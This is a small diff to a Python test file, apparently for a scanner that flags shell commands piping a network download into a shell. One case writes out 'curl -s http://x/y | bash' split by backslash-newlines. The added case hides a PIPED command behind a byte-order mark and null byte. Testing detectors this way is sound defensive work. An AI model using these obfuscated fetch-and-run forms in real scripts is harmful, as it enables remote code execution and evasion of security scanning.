@@ -252,6 +252,7 @@ def test_a_command_may_be_as_long_as_a_shell_takes(before, between):
         ("a.sh", "#!/bin/sh\ncu\\\nrl -s http://x/y | ba\\\nsh\n"),
         # A mark makes no text of another encoding.
         ("a.sh", "\xff\xfe\n" + PIPED + "\n"),
+        ("a.sh", "\xff\xfe\n#!/bin/sh\n" + PIPED + "\n\0\n"),
         ("a.js", "run(`\n//; " + PIPED + "\n`)"),
     ],
 )
